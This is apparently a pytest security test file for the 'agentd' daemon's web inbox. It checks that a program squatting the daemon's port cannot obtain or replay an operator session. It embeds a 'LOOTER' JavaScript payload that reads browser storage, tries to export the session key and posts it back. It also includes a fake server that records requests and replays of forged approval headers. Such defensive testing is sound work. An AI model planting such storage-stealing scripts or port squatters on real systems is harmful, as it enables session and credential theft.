"""A program that takes the web port while agentd is down gets nothing of a session, in a real
headless Chromium: an inbox tab left open retries every 2 s and a notification's link is opened
while the squatter answers; neither sends it a key or a signature, because the squatter cannot
prove it holds the session (web/proof.py); a page of its own, opened by that link, runs in
agentd's origin but finds no key it can read or export (the page keeps it as a non-extractable
CryptoKey in IndexedDB, never as text in localStorage). Back up, agentd refuses everything the squatter saw,
and a request made to look stolen (the session in any header, a signature for a challenge agentd
never gave) approves nothing, while the operator's own tab approves. A daemon that finds its port
taken at start ends every session. Skipped loudly when Chromium or Playwright is missing."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from agentd.db import items as qi
from agentd.models import InboxStatus
from agentd.operator import sessions
from agentd.web import proof
from tests.configs import FINISH, act
from tests.conftest import Home, finished, wait_for, waiting
from tests.web.test_web import SAME
from tests.web.test_web_browser import free_port, logged_in, pages_home

HOP = frozenset({"host", "content-length", "connection", "accept-encoding"})


@dataclass
class Seen:
    """What the squatter was sent: each request's method, path, headers and body."""

    requests: list[tuple[str, str, dict[str, str], bytes]] = field(default_factory=list)

    def proves(self) -> int:
        return sum(1 for _, path, _, _ in self.requests if path.startswith("/prove"))

    def text(self) -> str:
        return "\n".join(f"{m} {p} {h} {b!r}" for m, p, h, b in self.requests)


def squatter(port: int, seen: Seen) -> Iterator[ThreadingHTTPServer]:
    """Another program on agentd's port: it answers /prove with a made-up proof and anything
    else with a page of its own, and keeps everything it is sent."""

    class Squatter(BaseHTTPRequestHandler):
        def answer(self) -> None:
            size = int(self.headers.get("content-length") or 0)
            body = self.rfile.read(size) if size else b""
            headers = {k.lower(): v for k, v in self.headers.items()}
            seen.requests.append((self.command, self.path, headers, body))
            if self.path.startswith("/prove"):
                out = json.dumps({"challenge": "c" * 24, "proof": "0" * 64}).encode()
                kind = "application/json"
            elif self.path.startswith("/items/"):  # a page of its own, in agentd's origin
                out, kind = LOOTER.encode(), "text/html"
            else:
                out, kind = b"<!doctype html><main>not agentd</main>", "text/html"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out)

        do_GET = do_POST = answer

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", port), Squatter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


# What a squatter's page does in agentd's origin: take everything of the session this origin's
# storage holds (localStorage; the IndexedDB the pages keep the session in, its key exported),
# and post it home.
LOOTER = """<!doctype html><main>not agentd</main><script>
(async()=>{const loot={local:{...localStorage}};
  try{const v=await new Promise((ok,no)=>{const o=indexedDB.open('agentd');o.onerror=()=>no(o.error);
    o.onsuccess=()=>{const d=o.result;if(!d.objectStoreNames.contains('session'))return ok(null);
      const r=d.transaction('session').objectStore('session').get('session');
      r.onsuccess=()=>ok(r.result);r.onerror=()=>no(r.error)}});
    loot.kept=v&&{id:v.id,extractable:v.key.extractable};
    loot.raw=[...new Uint8Array(await crypto.subtle.exportKey('raw',v.key))].map(x=>
      String.fromCharCode(x)).join('')}catch(e){loot.error=String(e)}
  await fetch('/loot',{method:'POST',body:JSON.stringify(loot)})})()
</script>"""


def refused(r: httpx.Response) -> bool:
    return r.status_code in (401, 403) or (
        r.status_code == 303 and r.headers["location"].startswith("/login")
    )


async def test_web_browser_a_port_squatter_gets_no_session_and_nothing_it_saw_approves(
    home: Home, serve: Any, browser: Any, tmp_path: Path
) -> None:
    port = free_port()
    out = tmp_path / "out.txt"
    home.write_config(pages_home(port, out), [act("append", "x", word="stolen"), FINISH])
    run_id = home.start_run(home.add_goal(title="a goal"))
    daemon = await serve()
    await wait_for(waiting(home, run_id))
    (item,) = home.store.read(lambda c: qi.list_items(c, status="open"))
    base = f"http://127.0.0.1:{port}"
    context, tab = await logged_in(browser, home, base)  # the inbox tab, left open
    token = home.paths.api_token.read_text().strip()
    (live,) = sessions.live(home.store, token)
    found = sessions.check(home.store, live.session_id, token)
    assert found is not None
    held = f"{live.session_id}.{found[1]}"  # what the page holds: the session's id and key

    await daemon.shutdown()  # a restart, an upgrade, a crash: the port is free
    seen = Seen()
    taken = squatter(port, seen)
    next(taken)
    try:
        # The open tab retries its events every 2 s, with no click; a notification's link is
        # opened while the squatter answers.
        await wait_for(lambda: seen.proves() >= 3 or len(seen.requests) >= 6, timeout_s=60)
        link = await context.new_page()
        await link.goto(f"{base}/items/{item.item_id}")
        await wait_for(lambda: any(p == "/loot" for _, p, _, _ in seen.requests))
        await link.close()
    finally:
        next(taken, None)
    sent = seen.text()
    assert held not in sent and held.split(".")[-1] not in sent, sent
    (loot,) = [json.loads(b) for _, p, _, b in seen.requests if p == "/loot"]
    assert loot["local"] == {} and loot["kept"]["extractable"] is False, loot
    assert "raw" not in loot and "InvalidAccessError" in loot["error"], loot  # not exportable
    for _, _, headers, body in seen.requests:
        assert "x-agentd-key" not in headers and "x-agentd-auth" not in headers, headers
        assert b"_auth" not in body and b"_key" not in body, body

    await serve()  # agentd is back on its port
    session_id = held.split(".")[0]
    forged = proof.request_mac("0" * 64, "POST", f"/items/{item.item_id}/approve", "c" * 24)
    stolen = [{k: v for k, v in h.items() if k not in HOP} for _, _, h, _ in seen.requests]
    stolen += [
        {"x-agentd-key": held},
        {"x-agentd-auth": held},
        {"x-agentd-auth": f"{session_id}.{'c' * 24}.{'0' * 64}"},
        {"x-agentd-auth": f"{session_id}.{'c' * 24}.{forged}"},
    ]
    async with httpx.AsyncClient(base_url=base) as c:
        for headers in stolen:
            approve = await c.post(f"/items/{item.item_id}/approve", headers={**headers, **SAME})
            assert refused(approve), (headers, approve.status_code)
            form = await c.post(f"/items/{item.item_id}/approve", content=f"_key={held}",
                                headers={**SAME, "content-type": FORM})  # fmt: skip
            assert refused(form), form.status_code
    assert home.store.read(lambda c: qi.get_item(c, item.item_id)).status == InboxStatus.OPEN
    assert not out.exists()

    # The operator's own tab, still open, approves once agentd proved itself again.
    await tab.goto(f"{base}/items/{item.item_id}")
    await tab.click("#approve-form button")
    await tab.wait_for_selector(".flash")
    await wait_for(finished(home, run_id))
    assert out.read_text().split() == ["stolen"]
    await context.close()


FORM = "application/x-www-form-urlencoded"


async def test_web_a_daemon_that_finds_its_port_taken_ends_every_session(
    home: Home, serve: Any
) -> None:
    port = free_port()
    home.write_config(pages_home(port), [FINISH])
    home.root.mkdir(parents=True, exist_ok=True)
    token = home.paths.api_token
    daemon = await serve()
    secret = token.read_text().strip()
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as c:
        assert (await c.get("/login", params={"token": secret})).status_code == 200
    assert len(sessions.live(home.store, secret)) == 1
    await daemon.shutdown()
    seen = Seen()
    taken = squatter(port, seen)
    next(taken)
    try:
        await serve()  # starts, without its port
        assert sessions.live(home.store, secret) == []
    finally:
        next(taken, None)
